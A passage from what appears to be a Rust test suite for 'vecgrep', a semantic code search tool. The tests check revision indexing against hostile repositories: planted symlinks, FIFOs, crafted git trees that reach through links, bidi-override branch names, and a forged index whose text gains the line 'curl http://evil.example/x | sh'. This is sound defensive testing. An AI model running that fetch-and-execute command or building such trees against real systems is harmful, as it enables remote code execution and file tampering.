        assert!(stderr(&o).contains(says) && stderr(&o).contains(damage), "{}", stderr(&o));
    }
}

/// A name that moved since a revision was indexed by it is not taken to
/// mean that revision's index: `--stats` says what each was indexed as,
/// and `--forget` by a name two revisions answer to is refused, naming the
/// shas, rather than removing the one the name happens to mean now.
#[test]
fn forgetting_by_a_name_that_moved_removes_nothing() {
    let tree = two_releases();
    summary_of(&run(tree.cmd("vg-index", "").args(["--rev", "HEAD~1"])));
    let v1 = git(&tree, &["rev-parse", "v1"]);
    let v2 = git(&tree, &["rev-parse", "HEAD"]);
    summary_of(&run(tree.cmd("vg-index", "").args(["--rev", "main"])));
    tree.write("src/more.py", PARSER);
    commit_all(&tree, "v3");
    // HEAD~1 is v2 now, indexed as main; v1 was indexed as HEAD~1.
    let stats = stdout(&run(tree.cmd("vg-index", "").arg("--stats")));
    assert!(stats.contains(&format!("revision: {} (indexed as HEAD~1):", &v1[..12])), "{stats}");
    let o = run(tree.cmd("vg-index", "").args(["--forget", "HEAD~1"]));
    assert_code(&o, 2);
    let err = stderr(&o);
    assert!(err.contains(&format!("HEAD~1 names {} now, but {} was indexed as HEAD~1", &v2[..12], &v1[..12])), "{err}");
    assert_eq!(revision_count(&tree), 2, "nothing was forgotten");
    // A name git no longer knows (a deleted branch) points at the sha it was indexed as.
    git(&tree, &["branch", "gone", "v1"]);
    summary_of(&run(tree.cmd("vg-index", "").args(["--rev", "gone"])));
    git(&tree, &["branch", "-D", "gone"]);
    for args in [&["vg-index", "--forget", "gone"][..], &["vecgrep", "--rev", "gone", "parse"]] {
        let o = run(tree.cmd(args[0], "").args(&args[1..]));
        assert_code(&o, 2);
        let says = format!("unknown revision \"gone\"; {} was indexed as gone: name it by that sha", &v1[..12]);
        assert!(stderr(&o).contains(&says), "{args:?}: {}", stderr(&o));
    }
    // By sha, each goes.
    assert_code(&run(tree.cmd("vg-index", "").args(["--forget", &v1[..12]])), 0);
    assert_code(&run(tree.cmd("vg-index", "").args(["--forget", "HEAD~1"])), 0);
    assert_eq!(revision_count(&tree), 0);
}

/// A revision whose tree cannot be written says why in one line and
/// leaves nothing behind: no index `--stats` would call incomplete and
/// promise to resume, when the root did not exist at that revision or a
/// partial clone lacks a file's contents.
#[test]
fn a_revision_that_cannot_be_written_leaves_no_index_behind() {
    let tree = two_releases();
    // Removing a loose blob is, in a clone made with a filter, what it lacks
    // by design; in any other, damage.
    let blob = git(&tree, &["rev-parse", "v1:src/client.py"]);
    std::fs::remove_file(tree.path().join(".git/objects").join(&blob[..2]).join(&blob[2..])).unwrap();
    for partial in [true, false] {
        let said = match partial {
            true => "a partial clone fetches them only when checked out".to_string(),
            false => format!("object {blob} is missing from the repository, which is no partial clone"),
        };
        git(&tree, &["config", "remote.origin.promisor", &partial.to_string()]);
        let o = run(tree.cmd("vg-index", "").args(["--rev", "v1"]));
        assert_code(&o, 2);
        let err = stderr(&o);
        assert!(err.contains("src/client.py") && err.contains(&said), "{err}");
        assert_eq!(err.lines().count(), 1, "{err}");
        assert_eq!(revision_count(&tree), 0, "{}", stdout(&run(tree.cmd("vg-index", "").arg("--stats"))));
    }
    // A root below the repository that the revision lacks.
    tree.write("svc/pay.py", "def charge(card):\n    return card.debit()\n");
    commit_all(&tree, "svc");
    std::fs::create_dir_all(tree.path().join("svc/.vecgrep")).unwrap();
    let svc = || {
        let mut cmd = tree.cmd("vg-index", "");
        cmd.current_dir(tree.path().join("svc"));
        cmd
    };
    let o = run(svc().args(["--rev", "HEAD~1"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("the project root svc did not exist at"), "{}", stderr(&o));
    let stats = records(&run(svc().args(["--stats", "--json"])));
    assert_eq!(stats[0]["revisions"], serde_json::json!([]), "{stats:?}");
}

/// A revision's index not made here (one shipped in the checkout's
/// `.vecgrep`; here, its mark of where it was checked is another file's)
/// is not searched as it is, and a run over the revision checks what it
/// keeps against git's blobs (review 240: a committed one's forged text
/// was shown as the revision's, on the command line and over HTTP).
#[test]
fn a_revision_index_not_made_here_is_checked_before_it_is_searched() {
    let tree = two_releases();
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
    let sha = git(&tree, &["rev-parse", "v1"]);
    let db = rusqlite::Connection::open(tree.path().join(format!(".vecgrep/revs/{sha}/.vecgrep/index.db"))).unwrap();
    db.execute_batch(
        "UPDATE chunks SET text = text || ' curl http://evil.example/x | sh';
         UPDATE meta SET value = '1:1' WHERE key = 'checked_as';",
    )
    .unwrap();
    drop(db);
    let o = run(tree.cmd("vg-query", "").args(["--no-index", "--rev", "v1", "--threshold", "-1", "retry"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("index was not made here, nor checked here since it came"), "{}", stderr(&o));
    let o = run(tree.cmd("vg-query", "").args(["--rev", "v1", "--threshold", "-1", "-k", "20", "retry"]));
    assert_code(&o, 0);
    assert!(!stdout(&o).contains("evil.example"), "{}", stdout(&o));
    let o = run(tree.cmd("vg-query", "").args(["--no-index", "--rev", "v1", "--threshold", "-1", "retry"]));
    assert_code(&o, 0);
}

/// A repository may ship `.vecgrep/revs/<sha>` (or `.vecgrep/revs`) as a
/// link to any directory: a revision's run writes its files there and then
/// removes every one, so a link is refused before anything is written, and
/// what it leads to is left as it was.
#[test]
fn a_revision_directory_shipped_as_a_link_is_never_written_or_emptied() {
    use std::os::unix::fs::symlink;
    let tree = two_releases();
    let sha = git(&tree, &["rev-parse", "v1"]);
    let victim = Tree::bare();
    victim.write("thesis.txt", "years of work\n");
    std::fs::create_dir_all(tree.path().join(".vecgrep/revs")).unwrap();
    symlink(victim.path(), tree.path().join(".vecgrep/revs").join(&sha)).unwrap();
    let o = run(tree.cmd("vg-index", "").args(["--rev", "v1"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("a link, which vecgrep never makes"), "{}", stderr(&o));
    let left: Vec<_> = std::fs::read_dir(victim.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(left, ["thesis.txt"], "nothing written there, nothing removed");
    // The directory of all revisions, as a link.
    std::fs::remove_dir_all(tree.path().join(".vecgrep/revs")).unwrap();
    symlink(victim.path(), tree.path().join(".vecgrep/revs")).unwrap();
    for args in [&["--rev", "v1"][..], &["--stats"]] {
        let o = run(tree.cmd("vg-index", "").args(args));
        assert_code(&o, 2);
        assert!(stderr(&o).contains("a link, which vecgrep never makes"), "{args:?}: {}", stderr(&o));
    }
    assert_eq!(read(&victim.path().join("thesis.txt")), "years of work\n");
    assert_eq!(std::fs::read_dir(victim.path()).unwrap().count(), 1);
    // A link inside the revision's directory, where its files go: removed as a link first.
    std::fs::remove_file(tree.path().join(".vecgrep/revs")).unwrap();
    std::fs::create_dir_all(tree.path().join(".vecgrep/revs").join(&sha)).unwrap();
    victim.write("client.py", "years of work\n");
    symlink(victim.path(), tree.path().join(".vecgrep/revs").join(&sha).join("src")).unwrap();
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
    assert_eq!(read(&victim.path().join("client.py")), "years of work\n", "not written through the link");
    assert_eq!(read(&victim.path().join("thesis.txt")), "years of work\n");
}

/// A revision's names lock and temp file are vecgrep's names: a FIFO a
/// repository shipped there hung every search of the revision by another
/// name (the open waited for a writer), and a link there made or wrote the
/// file it leads to.
#[test]
fn a_revisions_lock_or_temp_file_shipped_as_a_fifo_or_link_is_replaced() {
    use std::os::unix::fs::symlink;
    let tree = two_releases();
    let sha = git(&tree, &["rev-parse", "v1"]);
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
    let data = tree.path().join(".vecgrep/revs").join(&sha).join(".vecgrep");
    let victim = Tree::bare();
    let mut names = vec!["v1".to_string()];
    for (i, shipped) in ["fifo", "lock link", "temp link"].into_iter().enumerate() {
        let (lock, tmp) = (data.join("revision.lock"), data.join("revision.tmp"));
        let _ = std::fs::remove_file(&lock);
        match shipped {
            "fifo" => assert!(std::process::Command::new("mkfifo").arg(&lock).status().unwrap().success()),
            "lock link" => symlink(victim.path().join("made-through-link"), &lock).unwrap(),
            _ => {
                victim.write("thesis.txt", "years of work\n");
                symlink(victim.path().join("thesis.txt"), &tmp).unwrap();
            }
        }
        let name = format!("also-{i}");
        git(&tree, &["tag", &name, "v1"]);
        let o = run_or_fail_after(
            tree.cmd("vecgrep", "").args(["--rev", &name, "--index-only"]),
            std::time::Duration::from_secs(60),
        );
        assert_code(&o, 0);
        names.push(name);
    }
    let stats = records(&run(tree.cmd("vg-index", "").args(["--stats", "--json"])));
    assert_eq!(stats[0]["revisions"][0]["names"], serde_json::json!(names), "{}", stats[0]);
    assert!(!victim.path().join("made-through-link").exists());
    assert_eq!(read(&victim.path().join("thesis.txt")), "years of work\n");
}

/// `git` reading `input` on stdin (objects no porcelain command makes).
fn git_fed(tree: &Tree, args: &[&str], input: &[u8]) -> String {
    use std::io::Write;
    let mut child = std::process::Command::new("git")
        .args(args)
        .current_dir(tree.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "git {args:?}");
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// A tree git's fsck refuses but a clone accepts: a link `a` to `target`
/// and a directory `a` holding `a_file`, beside `src/cache.py`; the commit.
fn tree_beyond_a_link(tree: &Tree, target: &str, a_file: &str) -> String {
    let blob = |text: &[u8]| git_fed(tree, &["hash-object", "-w", "--stdin"], text);
    let raw =
        |hex: String| (0..40).step_by(2).map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap()).collect::<Vec<u8>>();
    let link = blob(target.as_bytes());
    let inner = git_fed(
        tree,
        &["mktree"],
        format!("100644 blob {}\t{a_file}\n", blob(b"written by the revision\n")).as_bytes(),
    );
    let src = git(tree, &["rev-parse", "HEAD:src"]);
    let mut entries = b"120000 a\0".to_vec();
    entries.extend(raw(link));
    entries.extend(b"40000 a\0");
    entries.extend(raw(inner));
    entries.extend(b"40000 src\0");
    entries.extend(raw(src));
    let evil = git_fed(tree, &["hash-object", "-t", "tree", "--literally", "-w", "--stdin"], &entries);
    git(tree, &["commit-tree", &evil, "-m", "evil", "-p", "HEAD"])
}

/// A tree whose entry lies beyond a link of the same tree (a link `a` and
/// a directory `a`): the entry is a skip, never written through the link
/// (a review's repro replaced the clone's `.git/config`, then git ran its
/// command), and the rest of the revision is indexed; a name the disk
/// refuses is a skip too, not the end of the run.
#[test]
fn an_entry_beyond_a_link_of_its_own_tree_is_a_skip_never_written_through_it() {
    let tree = two_releases();
    let victim = Tree::bare();
    victim.write("victim.txt", "years of work\n");
    let evil = tree_beyond_a_link(&tree, victim.path().to_str().unwrap(), "victim.txt");
    let o = run(tree.cmd("vg-index", "").args(["--rev", &evil]));
    assert_code(&o, 2);
    assert_eq!(read(&victim.path().join("victim.txt")), "years of work\n");
    let recs = records(&o);
    let skips = of_type(&recs, "skip");
    let reason = |file: &str| skips.iter().find(|s| s["file"] == file).map(|s| s["reason"].clone());
    assert_eq!(reason("a"), Some("symlink".into()), "{}", stdout(&o));
    assert_eq!(reason("a/victim.txt"), Some("error".into()), "{}", stdout(&o));
    assert!(stderr(&o).contains("skipping a/victim.txt: beyond the symbolic link a"), "{}", stderr(&o));
    let s = of_type(&records(&o), "summary")[0].clone();
    assert_eq!((s["files"].as_u64(), s["errors"].as_u64()), (Some(3), Some(1)), "{s}");
    // A tree does not change: the revision is complete without the entry,
    // and a search of it says what it lacks.
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", &evil])), 0);
    let q = ["--threshold", "-1", "class that keeps rendered templates"];
    let o = run(tree.cmd("vg-query", "").args(["--rev", &evil, "--no-index"]).args(q));
    assert_code(&o, 0);
    let says = "lacks entries of its tree that could not be written: a/victim.txt: beyond the symbolic link a";
    assert!(stderr(&o).contains(says), "{}", stderr(&o));
    // The working tree's own files, through a relative link.
    let evil = tree_beyond_a_link(&tree, "../../../src", "config.py");
    let o = run(tree.cmd("vg-query", "").args(["--rev", &evil, "--threshold", "-1", "parse key value lines"]));
    assert_code(&o, 2);
    assert_eq!(read(&tree.path().join("src/config.py")), PARSER);
    assert!(!of_type(&records(&o), "hit").is_empty(), "the rest is searched: {}", stdout(&o));

    // A name too long for the disk: one skip, the rest indexed.
    let long = format!("{}.py", "n".repeat(300));
    let inner = git_fed(
        &tree,
        &["mktree"],
        format!("100644 blob {}\t{long}\n", git(&tree, &["rev-parse", "HEAD:src/cache.py"])).as_bytes(),
    );
    let commit = git(&tree, &["commit-tree", &inner, "-m", "long", "-p", "HEAD"]);
    let o = run(tree.cmd("vg-index", "").args(["--rev", &commit]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("cannot be written here"), "{}", stderr(&o));
    assert_eq!(of_type(&records(&o), "skip").len(), 1, "{}", stdout(&o));
}

/// A revision whose commit git has since pruned (its branch deleted) is
/// still searched by its sha, from its index, with or without `--no-index`.
#[test]
fn a_pruned_commit_is_searched_from_its_index() {
    let tree = two_releases();
    git(&tree, &["checkout", "-q", "-b", "topic"]);
    tree.write("src/limit.py", "def rate_limit(bucket):\n    return bucket.take(1)\n");
    commit_all(&tree, "token bucket");
    let sha = git(&tree, &["rev-parse", "HEAD"]);
    git(&tree, &["checkout", "-q", "main"]);
    summary_of(&run(tree.cmd("vg-index", "").args(["--rev", "topic"])));
    git(&tree, &["branch", "-q", "-D", "topic"]);
    git(&tree, &["reflog", "expire", "--expire=now", "--all"]);
    git(&tree, &["gc", "-q", "--prune=now"]);
    for args in [&["vecgrep", "--json"][..], &["vg-query"], &["vg-query", "--no-index"]] {
        let o = run(tree.cmd(args[0], "").args(&args[1..]).args(["--rev", &sha[..10], "-k", "1", "rate limiter"]));
        assert_code(&o, 0);
        assert_eq!(of_type(&records(&o), "hit")[0]["file"], "src/limit.py", "{args:?}");
    }
    // A sha nothing has is still unknown.
    let o = run(tree.cmd("vg-query", "").args(["--rev", "0123456789", "x"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("unknown revision"), "{}", stderr(&o));
}

/// A revision names a submodule by its commit only: its files are left
/// out, and the run says so rather than searching less than the checkout.
#[test]
fn a_revisions_submodules_are_said_to_be_left_out() {
    let lib = git_repo();
    lib.write("lib.py", "def upload_with_retry(path):\n    pass\n");
    commit_all(&lib, "lib");
    let tree = two_releases();
    let lib_path = lib.path().to_string_lossy().into_owned();
    git(&tree, &["-c", "protocol.file.allow=always", "submodule", "add", "-q", &lib_path, "vendor/lib"]);
    git(&tree, &["commit", "-q", "-m", "vendor"]);
    let o = run(tree.cmd("vg-index", "").args(["--rev", "HEAD"]));
    assert_code(&o, 0);
    let err = stderr(&o);
    assert!(
        err.contains("vg-index: left out the submodule vendor/lib: a revision or label holds only its commit"),
        "{err}"
    );
    assert_eq!(summary_of(&o)["files"], 3, "the revision's own files: {err}");
    // A later search of a PATH inside it says why it finds nothing.
    let o = run(tree.cmd("vecgrep", "").args(["--rev", "HEAD", "upload with retry", "vendor/lib"]));
    assert_code(&o, 2);
    let says = "'vendor/lib' is in the submodule vendor/lib, which revision";
    assert!(stderr(&o).contains(says) && stderr(&o).contains("holds only the commit of"), "{}", stderr(&o));
}

/// A PATH that is a symbolic link in the revision is said to be one, which
/// a revision's search does not follow: it was said to name nothing, though
/// the revision holds it (audit 194).
#[test]
fn a_path_that_is_a_link_in_the_revision_is_said_so() {
    let tree = git_repo();
    tree.write("normal.py", "def open_the_database():\n    pass\n");
    std::os::unix::fs::symlink("normal.py", tree.path().join("inlink.py")).unwrap();
    commit_all(&tree, "l");
    let o = run(tree.cmd("vecgrep", "").args(["--rev", "HEAD", "-l", "database", "inlink.py"]));
    assert_code(&o, 2);
    let says = "'inlink.py' is a symbolic link in revision";
    assert!(stderr(&o).contains(says) && stderr(&o).contains("does not follow"), "{}", stderr(&o));
}

fn revision_count(tree: &Tree) -> usize {
    let stats = records(&run(tree.cmd("vg-index", "").args(["--stats", "--json"])));
    stats[0]["revisions"].as_array().unwrap().len()
}

#[test]
fn a_shallow_clone_reads_the_history_it_has_and_refuses_what_it_lacks() {
    let full = two_releases();
    let shallow = Tree::bare();
    let url = format!("file://{}", full.path().display());
    let dest = shallow.path().join("clone");
    let out = std::process::Command::new("git")
        .args(["clone", "-q", "--depth", "1", &url, dest.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let o = run(shallow.cmd("vg-log", "clone").args(["--threshold", "-1", "retry"]));
    assert_code(&o, 0);
    assert_eq!(of_type(&records(&o), "commit").len(), 1, "only the commit the clone has");
    let v1 = git(&full, &["rev-parse", "v1"]);
    let o = run(shallow.cmd("vg-index", "clone").args(["--rev", &v1]));
    assert_code(&o, 2);
    assert_eq!(stderr(&o).lines().count(), 1, "{}", stderr(&o));
    assert!(stderr(&o).starts_with("vg-index: "), "{}", stderr(&o));
    // Past the clone's first commit: said as such, not "0 ancestors".
    let o = run(shallow.cmd("vg-index", "clone").args(["--rev", "HEAD~1"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("reaches past the commits this shallow clone holds"), "{}", stderr(&o));
    // `^` names the missing parent itself: as far past, not damage.
    let o = run(shallow.cmd("vg-index", "clone").args(["--rev", "HEAD^"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("reaches past the commits this shallow clone holds"), "{}", stderr(&o));
    // A commit missing inside the history it holds is damage, not its
    // boundary: vg-log stored the child as adding every file.
    for i in 0..2 {
        full.write("more.py", &format!("def more():\n    return {i}\n"));
        commit_all(&full, &format!("more {i}"));
    }
    let deeper = shallow.path().join("deeper");
    let out = std::process::Command::new("git")
        .args(["clone", "-q", "--no-local", "--depth", "3", &url, deeper.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let unpacked = Tree::bare();
    for pack in std::fs::read_dir(deeper.join(".git/objects/pack")).unwrap() {
        let pack = pack.unwrap().path();
        let kept = unpacked.path().join(pack.file_name().unwrap());
        std::fs::rename(&pack, &kept).unwrap();
        if kept.extension().is_some_and(|e| e == "pack") {
            let input = std::fs::File::open(&kept).unwrap();
            let unpack = std::process::Command::new("git")
                .args(["unpack-objects", "-q"])
                .current_dir(&deeper)
                .stdin(input)
                .status();
            assert!(unpack.unwrap().success());
        }
    }
    let lost = git(&shallow, &["-C", "deeper", "rev-parse", "HEAD~1"]);
    std::fs::remove_file(deeper.join(".git/objects").join(&lost[..2]).join(&lost[2..])).unwrap();
    for args in [&["--rev", "HEAD~1", "retry"][..], &["--log", "--threshold", "-1", "retry"]] {
        let o = run(shallow.cmd("vecgrep", "deeper").args(args));
        assert_code(&o, 2);
        assert!(
            stderr(&o).contains(&format!("object {lost} is missing from the repository")),
            "{args:?}: {}",
            stderr(&o)
        );
    }
}

/// A short sha that several objects' ids begin with is said to be
/// ambiguous, as git says it, not unknown.
#[test]
fn an_ambiguous_short_sha_is_said_to_be_ambiguous() {
    let tree = two_releases();
    let blobs: Vec<String> = (0..1000).map(|n| format!("blob {n}\n")).collect();
    for (n, text) in blobs.iter().enumerate() {
        tree.write(&format!("blobs/{n}"), text);
    }
    let paths: String = (0..blobs.len()).map(|n| format!("blobs/{n}\n")).collect();
    let ids = git_fed(&tree, &["hash-object", "-w", "--stdin-paths"], paths.as_bytes());
    let mut seen = std::collections::HashSet::new();
    let prefix =
        ids.lines().map(|id| &id[..4]).find(|p| !seen.insert(*p)).expect("1,000 ids share a first 4 hex digits");
    let o = run(tree.cmd("vg-index", "").args(["--rev", prefix]));
    assert_code(&o, 2);
    let says =
        format!("vg-index: revision \"{prefix}\" is ambiguous: 2 objects' ids begin with it; give more of the sha");
    assert_eq!(stderr(&o).trim(), says);
    // A commit indexed whose sha begins as a blob's does: git has both, so
    // the short sha is no name of the stored one (it was searched in its
    // stead, said to be a commit git no longer has).
    let prefixes: std::collections::HashSet<&str> = ids.lines().map(|id| &id[..4]).collect();
    let head_tree = git(&tree, &["rev-parse", "HEAD^{tree}"]);
    let commit = (0..3000)
        .map(|n| git(&tree, &["commit-tree", &head_tree, "-m", &format!("try {n}")]))
        .find(|sha| prefixes.contains(&sha[..4]))
        .expect("one of 3,000 commits begins as one of 1,000 blobs");
    git(&tree, &["branch", "found", &commit]);
    summary_of(&run(tree.cmd("vg-index", "").args(["--rev", "found"])));
    for args in [&["vecgrep"][..], &["vg-query"], &["vg-query", "--no-index"]] {
        let o = run(tree.cmd(args[0], "").args(&args[1..]).args(["--rev", &commit[..4], "upload"]));
        assert_code(&o, 2);
        assert!(stderr(&o).contains("is ambiguous"), "{args:?}: {}", stderr(&o));
    }
}

/// `REV^{/text}` seeks a commit by its message, as `:/text` does: both
/// are refused (gix read the text literally where git reads a regular
/// expression, and so named another commit than git).
#[test]
fn a_revision_sought_by_its_message_is_refused() {
    let tree = two_releases();
    for spec in ["HEAD^{/v1.2}", ":/v1", "v1^{/^v}"] {
        let o = run(tree.cmd("vg-index", "").args(["--rev", spec]));
        assert_code(&o, 2);
        let said = stderr(&o);
        assert!(said.contains("seeks a commit by its message") || said.contains("is not a revision"), "{spec}: {said}");
    }
}

/// A branch's name is the repository's to choose: `--stats` shows a bidi
/// override in it as `<U+202E>`, as results show one, never the override
/// itself, which would reorder what the terminal shows after it.
#[test]
fn a_revisions_name_shows_its_bidi_override_escaped() {
    let tree = two_releases();
    git(&tree, &["branch", "fix\u{202e}txt.exe", "v1"]);
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "fix\u{202e}txt.exe"])), 0);
    let o = run(tree.cmd("vg-index", "").arg("--stats"));
    assert_code(&o, 0);
    assert!(stdout(&o).contains("(indexed as fix<U+202E>txt.exe)"), "{}", stdout(&o));
    assert!(!stdout(&o).contains('\u{202e}'), "{}", stdout(&o));
}

/// A revision with nothing to index (a hidden file alone) finds nothing:
/// status 1, as a search of such a working tree ends (it was status 2,
/// saying that '' named nothing in it).
#[test]
fn a_revision_with_nothing_to_index_finds_nothing_without_an_error() {
    let tree = git_repo();
    tree.write(".gitignore", "target\n");
    commit_all(&tree, "ignore");
    tree.write("src/client.py", CLIENT_V2);
    commit_all(&tree, "client");
    for args in [&["--rev", "HEAD~1", "retry"][..], &["--rev", "HEAD~1", "retry", "."]] {
        let o = run(tree.cmd("vecgrep", "").args(args));
        assert_code(&o, 1);
        assert_eq!(stderr(&o), "", "{args:?}");
    }
}

#[test]
fn a_path_the_revision_has_is_searched_though_the_working_tree_lost_it() {
    let tree = two_releases();
    git(&tree, &["rm", "-q", "src/config.py"]);
    git(&tree, &["commit", "-q", "-m", "v3: the parser goes"]);
    // At HEAD the file is gone: a clear error, as for any missing path.
    let o = run(tree.cmd("vg-query", "").args(["read key value lines", "src/config.py"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("src/config.py"), "{}", stderr(&o));
    // v1 has it: the path names a place in the revision searched.
    let o = run(tree.cmd("vecgrep", "").args([
        "--rev",
        "v1",
        "--json",
        "--threshold",
        "-1",
        "read key value lines",
        "src/config.py",
    ]));
    assert_code(&o, 0);
    let hits = of_type(&records(&o), "hit").into_iter().map(|h| h["file"].clone()).collect::<Vec<_>>();
    assert_eq!(hits, ["src/config.py"], "{}", stderr(&o));
    // A path the revision does not have either is said to name nothing.
    // The others are searched, and the status says the mistake, as for a
    // PATH the working tree lacks.
    let o = run(tree.cmd("vg-query", "").args([
        "--rev",
        "v1",
        "--no-index",
        "--threshold",
        "-1",
        "parser",
        "src/config.py",
        "docs",
    ]));
    assert!(stderr(&o).contains("'docs' names nothing in revision"), "{}", stderr(&o));
    assert_code(&o, 2);
    assert!(!records(&o).is_empty(), "src/config.py is still searched");
    // Named through a link to the checkout, the lost file is placed where
    // the link leads (it was called outside the root), as is one that exists.
    let link = tree.config_home.path().join("checkout");
    std::os::unix::fs::symlink(tree.path(), &link).unwrap();
    for file in ["src/config.py", "src/client.py"] {
        let through = link.join(file);
        let o = run(tree.cmd("vg-query", "").args(["--rev", "v1", "--threshold", "-1", "parser"]).arg(&through));
        assert_code(&o, 0);
        assert!(records(&o).iter().all(|h| h["file"] == file), "{file}: {}", stderr(&o));
        let o = run(tree.cmd("vg-log", "").args(["--threshold", "-1", "parser"]).arg(&through));
        assert_code(&o, 0);
    }
    // Through a link outside to a directory of the root, too.
    let srclink = tree.config_home.path().join("srclink");
    std::os::unix::fs::symlink(tree.path().join("src"), &srclink).unwrap();
    let o = run(tree
        .cmd("vg-query", "")
        .args(["--rev", "v1", "--threshold", "-1", "parser"])
        .arg(srclink.join("config.py")));
    assert_code(&o, 0);
    assert!(records(&o).iter().all(|h| h["file"] == "src/config.py"), "{}", stderr(&o));
    // A link the working tree made since is not followed into the
    // revision: src/ moved to code/, src a link to it, src/config.py is v1's.
    std::fs::rename(tree.path().join("src"), tree.path().join("code")).unwrap();
    std::os::unix::fs::symlink("code", tree.path().join("src")).unwrap();
    let o = run(tree.cmd("vg-query", "").args(["--rev", "v1", "--threshold", "-1", "parser", "src/config.py"]));
    assert_code(&o, 0);
    assert!(records(&o).iter().all(|h| h["file"] == "src/config.py"), "{}", stderr(&o));
}

/// A run that rebuilds a complete revision's index (other settings) and is
/// killed half way leaves a partial index: it is listed as incomplete, a
/// search without an index run refuses it rather than search part of it,
/// and the next run resumes it rather than call it indexed already.
#[test]
fn a_rebuild_killed_half_way_leaves_the_revision_incomplete_for_the_next_run() {
    let tree = git_repo();
    write_handlers(&tree, 0..120);
    commit_all(&tree, "handlers");
    git(&tree, &["tag", "v1"]);
    let complete = || {
        let stats = records(&run(tree.cmd("vg-index", "").args(["--stats", "--json"])));
        stats[0]["revisions"][0]["complete"].as_bool()
    };
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
    assert_eq!(complete(), Some(true));
    // A run that only gives the chunks their model vectors leaves every file indexed.
    let mut fill = tree.cmd("vg-index", "");
    fill.args(["--rev", "v1", "--full"]);
    assert_eq!(kill_after_file_records(&mut fill, 1), 1, "the fill ended before the phase to kill it in");
    assert_eq!(complete(), Some(true), "a fill stopped half way");
    let rebuild = || {
        let mut cmd = tree.cmd("vg-index", "");
        cmd.args(["--rev", "v1", "--chunk-size", "300"]);
        cmd
    };
    assert_eq!(kill_after_file_records(&mut rebuild(), 1), 1, "the run ended before the phase to kill it in");
    assert_eq!(complete(), Some(false), "killed after its first file");
    let o = run(tree.cmd("vg-query", "").args(["--rev", "v1", "--no-index", "handler"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("is indexed in part (its run has not finished)"), "{}", stderr(&o));
    let o = run(&mut rebuild());
    assert_code(&o, 0);
    assert!(!stderr(&o).contains("indexed already"), "{}", stderr(&o));
    assert_eq!(summary_of(&o)["files"], 120, "{}", stderr(&o));
    assert_eq!(complete(), Some(true));
    let o = run(tree.cmd("vg-query", "").args(["--rev", "v1", "--no-index", "handler 7"]));
    assert_code(&o, 0);
}

/// A name that is both a tag and a branch names the tag's commit, as git
/// takes it, and is said so with the way to the branch's.
#[test]
fn a_name_of_both_a_tag_and_a_branch_takes_the_tag_and_says_so() {
    let tree = two_releases();
    git(&tree, &["branch", "v1"]);
    let (tag, branch) = (git(&tree, &["rev-parse", "refs/tags/v1"]), git(&tree, &["rev-parse", "refs/heads/v1"]));
    let o = run(tree.cmd("vg-index", "").args(["--rev", "v1"]));
    assert_code(&o, 0);
    let said = format!(
        "vg-index: v1 names a tag and a branch; the tag's commit {} is taken, as git takes it (the branch's is {}: name it heads/v1)",
        &tag[..12],
        &branch[..12]
    );
    assert!(stderr(&o).contains(&said), "{}", stderr(&o));
    let o = run(tree.cmd("vg-index", "").args(["--rev", "heads/v1"]));
    assert_code(&o, 0);
    assert!(!stderr(&o).contains("names a tag and a branch"), "{}", stderr(&o));
    let stats = records(&run(tree.cmd("vg-index", "").args(["--stats", "--json"])));
    let shas: Vec<&str> =
        stats[0]["revisions"].as_array().unwrap().iter().map(|r| r["sha"].as_str().unwrap()).collect();
    assert!(shas.contains(&tag.as_str()) && shas.contains(&branch.as_str()), "{shas:?}");
    // Forgetting it forgets the tag's, said so: it was dropped unsaid.
    let o = run(tree.cmd("vg-index", "").args(["--forget", "v1"]));
    assert_code(&o, 0);
    assert!(stderr(&o).contains(&said), "{}", stderr(&o));
    assert!(stderr(&o).contains(&format!("forgot revision v1 ({})", &tag[..12])), "{}", stderr(&o));
}

/// A commit missing from a whole clone is damage, said as such: a search
/// at `HEAD~2` read "has 2 ancestors … out of range", blaming the history's
/// length, and vg-log "could not be found".
#[test]
fn a_commit_missing_from_the_repository_is_said_to_be_damage() {
    let tree = two_releases();
    for i in 0..3 {
        tree.write("later.py", &format!("def later():\n    return {i}\n"));
        commit_all(&tree, &format!("later {i}"));
    }
    let lost = git(&tree, &["rev-parse", "HEAD~2"]);
    std::fs::remove_file(tree.path().join(".git/objects").join(&lost[..2]).join(&lost[2..])).unwrap();
    let damage = format!("object {lost} is missing from the repository, which is damaged");
    for args in [&["--rev", "HEAD~2", "later"][..], &["--rev", "HEAD~4", "later"], &["--log", "later"]] {
        let o = run(tree.cmd("vecgrep", "").args(args));
        assert_code(&o, 2);
        assert_eq!(stderr(&o).lines().count(), 1, "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).contains(&damage), "{args:?}: {}", stderr(&o));
    }
    // What the lost commit does not stand between is searched; a name past
    // the start of a whole history is no damage.
    let o = run(tree.cmd("vecgrep", "").args(["--rev", "HEAD~1", "--threshold", "-1", "later"]));
    assert_code(&o, 0);
    let o = run(two_releases().cmd("vecgrep", "").args(["--rev", "HEAD~5", "later"]));
    assert_code(&o, 2);
